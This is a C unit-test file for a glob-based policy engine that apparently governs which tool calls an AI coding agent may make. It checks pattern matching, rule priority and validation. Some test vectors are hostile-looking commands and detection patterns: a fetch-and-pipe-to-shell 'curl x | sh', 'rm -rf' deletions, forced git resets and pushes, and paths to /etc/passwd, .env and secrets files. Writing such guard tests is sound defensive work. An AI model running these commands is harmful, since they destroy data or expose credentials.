/*
 * Unit tests for policy-rules: matchPattern and its glob dialect
 * (hooks-and-policies.md §5.3), evaluation order (§5.2), request shapes
 * (§5.4), rule validation (§7) and compound Bash commands.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>
#include <jansson.h>

#include "policy-rules.h"
#include "xmalloc.h"

/* ---------------------------------------------------------------------- */
/* Helpers */

static int
match(const char *value, const char *pattern)
{
	struct policy_pattern	*pp;
	json_t			*j = json_string(pattern);
	int			 r;

	pp = policy_pattern_compile(j, NULL);
	assert_non_null(pp);
	r = policy_pattern_match(pp, value);
	policy_pattern_free(pp);
	json_decref(j);
	return r;
}

/* patterns: NULL-terminated list. */
static int
match_list(const char *value, const char *const *patterns)
{
	struct policy_pattern	*pp;
	json_t			*j = json_array();
	int			 r;

	for (; *patterns != NULL; patterns++)
		json_array_append_new(j, json_string(*patterns));
	pp = policy_pattern_compile(j, NULL);
	assert_non_null(pp);
	r = policy_pattern_match(pp, value);
	policy_pattern_free(pp);
	json_decref(j);
	return r;
}

struct vector {
	const char	*value;
	const char	*pattern;
	int		 expected;
};

static void
check_vectors(const struct vector *v, size_t n)
{
	size_t	i;

	for (i = 0; i < n; i++) {
		if (match(v[i].value, v[i].pattern) != v[i].expected) {
			fail_msg("matchPattern(\"%s\", \"%s\") should be %s",
			    v[i].value, v[i].pattern,
			    v[i].expected ? "true" : "false");
		}
	}
}

static struct policy_set_compiled *
compile_text(const char *text)
{
	struct policy_set_compiled	*set;
	json_error_t			 err;
	json_t				*j;
	char				*cause = NULL;

	if ((j = json_loads(text, 0, &err)) == NULL)
		fail_msg("bad test JSON: %s: %s", err.text, text);
	if ((set = policy_compile(j, &cause)) == NULL)
		fail_msg("policy_compile: %s", cause);
	json_decref(j);
	return set;
}

struct request {
	const char		*tool;
	const char		*args;		/* JSON text or NULL */
	const char		*session;
	const char		*cwd;
	enum policy_action	 default_action;
};

static void
evaluate(const struct policy_set_compiled *set, const struct request *r,
    struct policy_result *out)
{
	struct policy_request	 req;
	json_error_t		 err;

	memset(&req, 0, sizeof req);
	req.tool = r->tool;
	req.session_id = r->session != NULL ? r->session : "s1";
	req.cwd = r->cwd != NULL ? r->cwd : "/proj";
	req.default_action = r->default_action;
	if (r->args != NULL && (req.args = json_loads(r->args, 0, &err)) == NULL)
		fail_msg("bad args JSON: %s", r->args);
	assert_int_equal(policy_evaluate(set, &req, out), 0);
	json_decref(req.args);
}

/* Evaluate tool Bash with the given command under set. */
static void
evaluate_bash(const struct policy_set_compiled *set, const char *command,
    enum policy_action default_action, struct policy_result *out)
{
	struct policy_request	req;

	memset(&req, 0, sizeof req);
	req.tool = "Bash";
	req.session_id = "s1";
	req.cwd = "/proj";
	req.default_action = default_action;
	req.args = json_pack("{s:s}", "command", command);
	assert_int_equal(policy_evaluate(set, &req, out), 0);
	json_decref(req.args);
}

static void
assert_decided_by(const struct policy_result *r, enum policy_action decision,
    const char *policy_id, const char *rule_id)
{
	assert_int_equal(r->decision, decision);
	assert_int_equal(r->is_default, 0);
	assert_string_equal(r->policy_id, policy_id);
	assert_string_equal(r->rule_id, rule_id);
}

static void
assert_default(const struct policy_result *r, enum policy_action decision)
{
	assert_int_equal(r->decision, decision);
	assert_int_equal(r->is_default, 1);
	assert_null(r->policy_id);
	assert_null(r->rule_id);
	assert_int_equal(r->rule_index, -1);
	assert_string_equal(r->action, policy_action_name(decision));
	assert_string_equal(r->reason, policy_default_reason(decision));
}

static void
assert_validation(const char *rules_json, const char *message)
{
	json_error_t	 err;
	json_t		*j;
	char		*cause = NULL;

	if ((j = json_loads(rules_json, JSON_DECODE_ANY, &err)) == NULL)
		fail_msg("bad test JSON: %s", rules_json);
	if (message == NULL) {
		if (policy_rules_validate(j, &cause) != 0)
			fail_msg("%s: unexpected error: %s", rules_json, cause);
	} else {
		assert_int_equal(policy_rules_validate(j, &cause), -1);
		assert_non_null(cause);
		assert_string_equal(cause, message);
		free(cause);
	}
	json_decref(j);
}

/* ---------------------------------------------------------------------- */
/* matchPattern */

/* hooks-and-policies.md §5.3, every observed vector. */
static void
test_spec_vectors(void **state)
{
	static const struct vector v[] = {
		{ "rm -rf /var/cache", "rm *", 1 },
		{ "ls", "ls *", 0 },
		{ "ls ", "ls *", 1 },
		{ "Read", "read", 0 },
		{ "ReadFile", "Read*", 1 },
		{ "Write", "{Read,Write}", 1 },
		{ "/project/sub/file.txt", "/project/*", 1 },
		{ "/a", "/a/**", 1 },
		{ "/project/.env", "**/.env", 1 },
		{ ".env", "**/.env", 1 },
		{ ".env", "*", 0 },
		{ "/x/.env", "*", 1 },
		{ "/x/.env", "/x/*", 0 },
		{ "/x/.env", "/x/.*", 1 },
		{ "cat .env", "cat *", 1 },
		{ "cat /etc/.bashrc", "cat *", 0 },
		{ "abc/.git/config", "*config", 1 },
		{ "abc/.git/config", "abc*", 0 },
		{ "ab", "a?", 1 },
		{ "a/", "a?", 0 },
		{ "x/y", "x?y", 0 },
		{ "multi\nline", "multi*", 0 },
		{ "git reset --hard HEAD", "*git reset --hard*", 1 },
		{ "a*b", "a\\*b", 1 },
		{ "axb", "a\\*b", 0 },
		{ "x", "(x)", 1 },
		{ "a", "a|b", 0 },
		{ "a", "[a]", 1 },
		{ "foo.js", "*.+(js|ts)", 1 },
		{ "", "*", 0 },
		{ "/srv/x", "/srv/x/", 0 },
		{ "a", "./a", 1 },
		{ "{\"a\":1}", "*\"a\"*", 1 },
		{ "[\"ctrl+c\"]", "*ctrl+c*", 1 },
	};
	static const char *const txt_not_secret[] = {
		"*.txt", "!secret.txt", NULL
	};
	static const char *const not_secret[] = { "!secret.txt", NULL };

	check_vectors(v, sizeof v / sizeof v[0]);
	assert_true(match_list("normal.txt", txt_not_secret));
	assert_false(match_list("secret.txt", txt_not_secret));
	assert_false(match_list("normal.txt", not_secret));
}

/* The reference implementation's own matcher tests. */
static void
test_reference_vectors(void **state)
{
	static const struct vector v[] = {
		{ "Read", "Read", 1 },
		{ "Read", "Write", 0 },
		{ "READ", "Read", 0 },
		{ "Read", "R*", 1 },
		{ "FileRead", "*Read", 1 },
		{ "FileReadWrite", "*Read*", 1 },
		{ "Read", "R?ad", 1 },
		{ "Read", "R??d", 1 },
		{ "Road", "R[aeiou]ad", 1 },
		{ "Ryad", "R[aeiou]ad", 0 },
		{ "Edit", "{Read,Write}", 0 },
		{ "/path/to/.env", "**/.env", 1 },
		{ "/workspace/project/.env.local", "**/.env.*", 1 },
		{ "/secrets.json", "**/secrets.*", 1 },
		{ "rm -rf /tmp", "*rm*", 1 },
		{ "git reset --hard HEAD", "*git reset*", 1 },
		{ "ls -la", "rm *", 0 },
		{ "", "", 1 },
		{ "", "something", 0 },
		{ "something", "", 0 },
		{ "file.txt", "file.txt", 1 },
		/* Equal strings match before any glob meaning applies. */
		{ "file[1].txt", "file[1].txt", 1 },
		{ "file(1).txt", "file(1).txt", 1 },
		{ "fichier.txt", "fichier.txt", 1 },
		{ "\xe6\x96\x87\xe4\xbb\xb6.txt", "\xe6\x96\x87\xe4\xbb\xb6.txt", 1 },
		{ "/workspace/file.txt", "/workspace/*", 1 },
		{ "/workspace/sub/file.txt", "/workspace/**/*", 1 },
		{ "/a/b/c/file.txt", "**/*.txt", 1 },
		{ "/file.txt", "**/*.txt", 1 },
		{ "/workspace/sub/file.txt", "/workspace/*", 1 },
		{ "/workspace/sub/file.txt", "/workspace/**", 1 },
		{ "secrets.txt", "!secrets.txt", 0 },
		{ "normal.txt", "!secrets.txt", 0 },
	};
	static const char *const tools[] = { "Read", "Write", "Edit", NULL };
	static const char *const globs[] = { "Read*", "Write*", NULL };
	static const char *const two_neg[] = { "!*.env", "!*.secret", NULL };
	static const char *const three[] = {
		"*.txt", "!file.txt", "!*.env", NULL
	};
	static const char *const not_tmp[] = { "**", "!(/tmp/**)", NULL };
	static const char *const empties[] = { "", "Read", "", NULL };
	static const char *const only_empty[] = { "", "", "", NULL };
	static const char *const bang[] = { "!", NULL };
	static const char *const none[] = { NULL };

	check_vectors(v, sizeof v / sizeof v[0]);
	assert_true(match_list("Write", tools));
	assert_false(match_list("Bash", tools));
	assert_true(match_list("WriteFile", globs));
	assert_false(match_list("EditFile", globs));
	assert_false(match_list("file.txt", two_neg));
	assert_false(match_list("pass.secret", two_neg));
	assert_false(match_list("file.txt", three));
	assert_true(match_list("/workspace/file.txt", not_tmp));
	assert_false(match_list("/tmp/file.txt", not_tmp));
	assert_true(match_list("Read", empties));
	assert_false(match_list("Write", only_empty));
	assert_true(match_list("", only_empty));
	assert_false(match_list("something", bang));
	assert_false(match_list("anything", none));
}

/*
 * Glob versus regular-expression syntax: only the glob dialect applies;
 * characters a regex would treat specially are literal unless the glob
 * dialect gives them a meaning.
 */
static void
test_glob_not_regex(void **state)
{
	static const struct vector v[] = {
		{ "abc", "a.c", 0 },		/* . is a dot, not any char */
		{ "a.c", "a.c", 1 },
		{ "aab", "a+b", 0 },		/* + is literal */
		{ "a+b", "a+b", 1 },
		{ "rm -rf x", "^rm*", 0 },	/* ^ and $ are literal */
		{ "^rm x", "^rm*", 1 },
		{ "cost$", "cost$", 1 },
		{ "a", "a|b", 0 },		/* | alternates only in ( ) */
		{ "a|b", "a|b", 1 },
		{ "b", "(a|b)", 1 },
		{ "c", "(a|b)", 0 },
		{ "npm test", "npm @(test|lint)", 1 },
		{ "npm run", "npm @(test|lint)", 0 },
		{ "ab", "a{b,c}", 1 },
		{ "ad", "a{b,c}", 0 },
		{ "a2", "a{1..3}", 1 },
		{ "a4", "a{1..3}", 0 },
		{ "x1", "x[0-9]", 1 },
		{ "xa", "x[0-9]", 0 },
		{ "xb", "x[^a]", 1 },
		{ "xa", "x[^a]", 0 },
		{ "x/", "x[^a]", 0 },		/* [^...] never takes a slash */
		{ "xq", "x[[:alpha:]]", 1 },
		{ "x1", "x[[:alpha:]]", 0 },
		{ "foo.ts", "*.@(js|ts)", 1 },
		{ "foo.rs", "*.@(js|ts)", 0 },
		{ "aaa", "+(a)", 1 },
		{ "", "*(a)", 0 },
		{ "x", "x?(y)", 1 },
		{ "xy", "x?(y)", 1 },
		{ "xyy", "x?(y)", 0 },
		{ "src/b.ts", "src/!(*.js)", 1 },
		{ "src/b.js", "src/!(*.js)", 0 },
		/* Leading "!(" is a negative pattern to matchPattern. */
		{ "b.ts", "!(*.js)", 0 },
		/* Outside a group, | after a star-led start alternates. */
		{ "anything", "*| sh*", 1 },
		{ "curl x | sh", "*\\| sh*", 1 },
		{ "make && x", "*\\| sh*", 0 },
		{ "a\\b", "a\\\\b", 1 },	/* \\ is a backslash */
		{ "x?", "x\\?", 1 },
		{ "xy", "x\\?", 0 },
		{ "weird{", "weird{", 1 },	/* equality still matches */
		{ "weirdx", "weird{", 0 },	/* an open { matches nothing */
	};

	check_vectors(v, sizeof v / sizeof v[0]);
}

/* Where a star may go: dots, slashes and line breaks. */
static void
test_glob_star_rules(void **state)
{
	static const struct vector v[] = {
		{ "rm -rf /a/b", "rm *", 1 },		/* crosses / */
		{ "rm -rf /a/.b", "rm *", 0 },		/* not into /.x */
		{ "rm -rf /a/.b", "rm -rf /*", 1 },	/* after /: only no leading . */
		{ "rm -rf /.b", "rm -rf /*", 0 },
		{ ".hidden", "*", 0 },
		{ ".hidden", ".*", 1 },
		{ "a/.hidden", "*", 1 },
		{ "x.env", "*.env", 1 },
		{ ".env", "*.env", 0 },
		{ "src/a/b.ts", "src/**/*.ts", 1 },
		{ "src/b.ts", "src/**/*.ts", 1 },
		{ "src/.a/b.ts", "src/**/*.ts", 1 },
		{ "a\rb", "a*", 0 },
		{ "a\xe2\x80\xa8" "b", "a*", 0 },	/* U+2028 */
		{ "x\xc3\xa9", "x?", 1 },		/* ? is one character */
		{ "x/", "x*", 1 },
		{ "x/", "x[a/]", 1 },
		{ "/srv/x/", "/srv/x/**", 1 },
		{ "ab", "a**b", 1 },
		{ "axxb", "a**b", 1 },
		{ "mcp__github__create", "mcp__*", 1 },
		{ "mcp__github__create", "mcp__github__*", 1 },
		{ "mcp__slack__post", "mcp__github__*", 0 },
	};

	check_vectors(v, sizeof v / sizeof v[0]);
}

static void
test_negated_pattern_alone(void **state)
{
	static const char *const bang_bang[] = { "!!x", "y", NULL };

	/* A negation never matches on its own. */
	assert_false(match("anything", "!x"));
	assert_false(match("x", "!x"));
	/* "!!x" is a negative pattern "!x", i.e. everything but x. */
	assert_false(match_list("y", bang_bang));
	assert_false(match_list("z", bang_bang));
}

static void
test_pattern_rejects_non_strings(void **state)
{
	json_t	*j;
	char	*cause = NULL;

	j = json_integer(5);
	assert_null(policy_pattern_compile(j, &cause));
	assert_string_equal(cause, "must be a string or an array of strings");
	free(cause);
	json_decref(j);

	j = json_pack("[s,i]", "a", 1);
	assert_null(policy_pattern_compile(j, NULL));
	json_decref(j);

	j = json_null();
	assert_null(policy_pattern_compile(j, NULL));
	json_decref(j);
}

/* The memo keeps star-heavy patterns linear enough on long values. */
static void
test_pattern_long_values(void **state)
{
	char	*value;
	clock_t	 start = clock();
	size_t	 n = 20000;

	value = xmalloc(n + 2);
	memset(value, 'a', n);
	value[n] = 'b';
	value[n + 1] = '\0';
	assert_false(match(value, "*a*a*a*a*a*a*c"));
	assert_true(match(value, "*a*a*a*a*a*a*b"));
	assert_true(match(value, "*b"));
	assert_false(match(value, "+(a|aa)c"));
	free(value);
	assert_true((double)(clock() - start) / CLOCKS_PER_SEC < 5.0);
}

/* Unbalanced and deeply nested patterns compile fast or are refused. */
static void
test_pattern_pathological(void **state)
{
	struct policy_pattern	*pp;
	json_t			*j;
	char			*pattern, *cause = NULL;
	clock_t			 start = clock();
	size_t			 i;

	/* Unclosed parentheses are literal: picomatch escapes them. */
	pattern = xmalloc(64);
	memset(pattern, '(', 30);
	strcpy(pattern + 30, "a");
	assert_true(match(pattern, pattern));
	assert_false(match("a", pattern));
	free(pattern);
	assert_true(match("(ab", "(a@(b|c)"));

	/* Nesting is bounded, extglobs included. */
	pattern = xmalloc(3 * 100 + 2);
	for (i = 0; i < 100; i++)
		memcpy(pattern + 2 * i, "+(", 2);
	pattern[200] = 'a';
	memset(pattern + 201, ')', 100);
	pattern[301] = '\0';
	j = json_string(pattern);
	assert_null(pp = policy_pattern_compile(j, &cause));
	assert_string_equal(cause, "pattern nested deeper than 32 levels");
	free(cause);
	json_decref(j);
	free(pattern);
	assert_true((double)(clock() - start) / CLOCKS_PER_SEC < 5.0);
}

static void
check_value_string(json_t *v, const char *expected)
{
	char	*s = policy_value_string(v);

	assert_string_equal(s, expected);
	free(s);
	json_decref(v);
}

static void
test_value_string(void **state)
{
	char	*s;

	s = policy_value_string(NULL);
	assert_string_equal(s, "");
	free(s);
	check_value_string(json_null(), "");
	check_value_string(json_string("ls -la"), "ls -la");
	check_value_string(json_true(), "true");
	check_value_string(json_false(), "false");
	check_value_string(json_integer(-42), "-42");
	check_value_string(json_real(3.14), "3.14");
	check_value_string(json_real(0.1), "0.1");
	check_value_string(json_real(100.0), "100");
	check_value_string(json_real(-0.5), "-0.5");
	check_value_string(json_real(1e21), "1e+21");
	check_value_string(json_real(1.5e-7), "1.5e-7");
	check_value_string(json_real(0.000001), "0.000001");
	check_value_string(json_real(123456789012.5), "123456789012.5");
	check_value_string(json_pack("[s]", "ctrl+c"), "[\"ctrl+c\"]");
	check_value_string(json_pack("{s:i,s:[b,n]}", "a", 1, "b", 1),
	    "{\"a\":1,\"b\":[true,null]}");
	check_value_string(json_pack("{s:s}", "k", "a\"b\n/\x01"),
	    "{\"k\":\"a\\\"b\\n/\\u0001\"}");
	check_value_string(json_pack("[f]", 2.5), "[2.5]");
}

/* ---------------------------------------------------------------------- */
/* Evaluation */

static void
test_default_action(void **state)
{
	struct policy_set_compiled	*set = compile_text("[]");
	struct policy_result		 r;
	struct request			 q = { "Read", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	assert_string_equal(r.reason,
	    "No matching policy rule found (default ask)");
	assert_int_equal(r.part_index, -1);

	q.default_action = POLICY_ACTION_DENY;
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_DENY);
	assert_string_equal(r.reason,
	    "No matching policy rule found (default deny)");

	/* allow is not an accepted default. */
	q.default_action = POLICY_ACTION_ALLOW;
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);

	/* A NULL set is no policies. */
	q.default_action = POLICY_ACTION_DENY;
	evaluate(NULL, &q, &r);
	assert_default(&r, POLICY_ACTION_DENY);
	policy_compiled_free(set);

	assert_int_equal(policy_evaluate(NULL, NULL, &r), -1);
}

static void
test_result_fields(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash", "{\"input\":\"ls -la\"}",
					     NULL, NULL, POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"allow-bash\",\"name\":\"Allow bash\","
	    "\"enabled\":true,\"priority\":10,\"sessionId\":null,\"rules\":["
	    "{\"id\":\"r0\",\"action\":\"deny\",\"tool\":\"Read\"},"
	    "{\"id\":\"r1\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"input\":\"ls *\"},\"reason\":\"ls is fine\"}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "allow-bash", "r1");
	assert_string_equal(r.action, "allow");
	assert_string_equal(r.reason, "ls is fine");
	assert_int_equal(r.rule_index, 1);
	assert_int_equal(r.part_index, -1);

	q.tool = "Read";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "allow-bash", "r0");
	assert_null(r.reason);
	assert_int_equal(r.rule_index, 0);
	policy_compiled_free(set);
}

static void
test_first_match_within_policy(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Write", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"a\",\"action\":\"ask\",\"tool\":\"Write\"},"
	    "{\"id\":\"b\",\"action\":\"deny\",\"tool\":\"*\"},"
	    "{\"id\":\"c\",\"action\":\"allow\",\"tool\":\"Write\"}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "p", "a");
	q.tool = "Edit";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "b");
	policy_compiled_free(set);
}

static void
test_priority_order(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	/* Input order low, high, tie-a, tie-b. */
	set = compile_text("["
	    "{\"id\":\"low\",\"priority\":1,\"rules\":"
	    "[{\"id\":\"l\",\"action\":\"allow\"}]},"
	    "{\"id\":\"high\",\"priority\":100,\"rules\":"
	    "[{\"id\":\"h\",\"action\":\"deny\",\"tool\":\"Bash\"}]},"
	    "{\"id\":\"tie-a\",\"priority\":50,\"rules\":"
	    "[{\"id\":\"ta\",\"action\":\"ask\",\"tool\":\"Read\"}]},"
	    "{\"id\":\"tie-b\",\"priority\":50,\"rules\":"
	    "[{\"id\":\"tb\",\"action\":\"allow\",\"tool\":\"Read\"}]}]");
	assert_int_equal(policy_compiled_count(set), 4);
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "high", "h");
	/* Equal priorities keep their input order. */
	q.tool = "Read";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "tie-a", "ta");
	/* Negative priorities sort below zero. */
	q.tool = "Glob";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "low", "l");
	policy_compiled_free(set);
}

static void
test_disabled_policies(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("["
	    "{\"id\":\"off\",\"enabled\":false,\"priority\":99,\"rules\":"
	    "[{\"id\":\"x\",\"action\":\"deny\"}]},"
	    "{\"id\":\"off-int\",\"enabled\":0,\"priority\":98,\"rules\":"
	    "[{\"id\":\"y\",\"action\":\"deny\"}]},"
	    "{\"id\":\"on\",\"enabled\":true,\"rules\":"
	    "[{\"id\":\"z\",\"action\":\"allow\"}]}]");
	assert_int_equal(policy_compiled_count(set), 1);
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "on", "z");
	policy_compiled_free(set);
}

static void
test_session_scoped_and_global(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash", NULL, "s1", NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("["
	    "{\"id\":\"mine\",\"sessionId\":\"s1\",\"priority\":10,\"rules\":"
	    "[{\"id\":\"m\",\"action\":\"allow\"}]},"
	    "{\"id\":\"other\",\"sessionId\":\"s2\",\"priority\":20,\"rules\":"
	    "[{\"id\":\"o\",\"action\":\"deny\"}]},"
	    "{\"id\":\"global\",\"sessionId\":null,\"priority\":5,\"rules\":"
	    "[{\"id\":\"g\",\"action\":\"ask\"}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "mine", "m");
	q.session = "s2";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "other", "o");
	q.session = "s3";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "global", "g");
	policy_compiled_free(set);
}

static void
test_criteria(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Edit",
					     "{\"file_path\":\"/proj/a.c\"}",
					     "sess-1", "/proj",
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"all\",\"action\":\"allow\",\"tool\":[\"Edit\",\"Write\"],"
	    "\"args\":{\"file_path\":\"/proj/**\"},\"cwd\":\"/proj\","
	    "\"session\":\"sess-*\"},"
	    "{\"id\":\"any\",\"action\":\"deny\"}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "all");

	/* Every present criterion must match. */
	q.tool = "Read";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "any");
	q.tool = "Edit";
	q.args = "{\"file_path\":\"/etc/passwd\"}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "any");
	q.args = "{\"file_path\":\"/proj/a.c\"}";
	q.cwd = "/elsewhere";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "any");
	q.cwd = "/proj";
	q.session = "other";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "any");
	policy_compiled_free(set);
}

static void
test_args_values(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "t", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"star\",\"action\":\"allow\",\"args\":{\"x\":\"*\"}},"
	    "{\"id\":\"empty\",\"action\":\"allow\",\"args\":{\"x\":\"\"}},"
	    "{\"id\":\"num\",\"action\":\"deny\",\"args\":{\"n\":\"4?\"}},"
	    "{\"id\":\"obj\",\"action\":\"ask\",\"args\":{\"o\":\"*\\\"k\\\"*\"}},"
	    "{\"id\":\"and\",\"action\":\"allow\","
	    "\"args\":{\"a\":\"1\",\"b\":\"2\"}}]}]");

	/* A missing or empty argument never satisfies a criterion. */
	q.args = "{}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	q.args = NULL;
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	q.args = "{\"x\":\"\"}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	q.args = "{\"x\":null}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);

	q.args = "{\"x\":\"v\"}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "star");
	/* Numbers and booleans are String(v). */
	q.args = "{\"n\":42}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "num");
	q.args = "{\"x\":false}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "star");
	/* Objects are compact JSON. */
	q.args = "{\"o\":{\"k\":1}}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "p", "obj");
	/* All keys of args must match. */
	q.args = "{\"a\":\"1\"}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	q.args = "{\"a\":\"1\",\"b\":2}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "and");
	policy_compiled_free(set);
}

static void
test_empty_tool_cwd_session(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "", NULL, NULL, "",
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"star\",\"action\":\"deny\",\"tool\":\"*\"},"
	    "{\"id\":\"cwd\",\"action\":\"deny\",\"cwd\":\"*\"},"
	    "{\"id\":\"empty\",\"action\":\"allow\",\"tool\":\"\"}]}]");
	/* An empty value fails '*' but matches the empty pattern. */
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "empty");
	q.tool = NULL;
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "empty");
	policy_compiled_free(set);
}

static void
test_rule_without_criteria(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Anything", "{\"k\":1}", "zz",
					     "/", POLICY_ACTION_DENY };

	set = compile_text("[{\"id\":\"p\",\"rules\":"
	    "[{\"action\":\"allow\",\"reason\":\"everything\"}]}]");
	evaluate(set, &q, &r);
	assert_int_equal(r.decision, POLICY_ACTION_ALLOW);
	assert_string_equal(r.policy_id, "p");
	assert_null(r.rule_id);
	assert_string_equal(r.reason, "everything");
	policy_compiled_free(set);
}

static void
test_unknown_action_verbatim(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"m\",\"action\":\"maybe\",\"tool\":\"Bash\"},"
	    "{\"id\":\"n\",\"tool\":\"Read\"}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_OTHER, "p", "m");
	assert_string_equal(r.action, "maybe");
	q.tool = "Read";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_OTHER, "p", "n");
	assert_null(r.action);
	policy_compiled_free(set);
}

static void
test_invalid_stored_rule(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Read", NULL, NULL, NULL,
					     POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"ok\",\"action\":\"allow\",\"tool\":\"Read\"},"
	    "{\"id\":\"bad\",\"action\":\"allow\",\"tool\":5},"
	    "{\"id\":\"late\",\"action\":\"allow\"}]}]");
	/* Rules before the broken one still decide. */
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "ok");
	/* Reaching it asks (never allows), whatever its action. */
	q.tool = "Write";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "p", "bad");
	assert_string_equal(r.reason, "Invalid policy rule: Field 'rules[1].tool' "
	    "must be a string or an array of strings");
	q.default_action = POLICY_ACTION_DENY;
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "p", "bad");
	policy_compiled_free(set);
}

static void
test_compile_errors(void **state)
{
	static const struct {
		const char	*json;
		const char	*cause;
	} cases[] = {
		{ "{}", "policies must be an array" },
		{ "[1]", "policy 0 is not an object" },
		{ "[{\"rules\":[]}]", "policy 0 has no id" },
		{ "[{\"id\":\"\",\"rules\":[]}]", "policy 0 has no id" },
		{ "[{\"id\":\"p\"}]", "policy p: rules must be an array" },
		{ "[{\"id\":\"p\",\"rules\":{}}]",
		    "policy p: rules must be an array" },
		{ "[{\"id\":\"p\",\"priority\":1.5,\"rules\":[]}]",
		    "policy p: priority must be an integer" },
		{ "[{\"id\":\"p\",\"enabled\":\"yes\",\"rules\":[]}]",
		    "policy p: enabled must be a boolean" },
		{ "[{\"id\":\"p\",\"sessionId\":3,\"rules\":[]}]",
		    "policy p: sessionId must be a string or null" },
	};
	json_t	*j;
	char	*cause;
	size_t	 i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		j = json_loads(cases[i].json, 0, NULL);
		assert_non_null(j);
		cause = NULL;
		assert_null(policy_compile(j, &cause));
		assert_string_equal(cause, cases[i].cause);
		free(cause);
		json_decref(j);
	}
}

/* §5.4: the request shapes of the three channels. */
static void
test_channel_shapes(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "terminal_input",
					     "{\"input\":\"git push --force\","
					     "\"newline\":true,\"provider\":\"codex\"}",
					     NULL, NULL, POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"cx\",\"rules\":["
	    "{\"id\":\"push\",\"action\":\"deny\",\"tool\":\"terminal_input\","
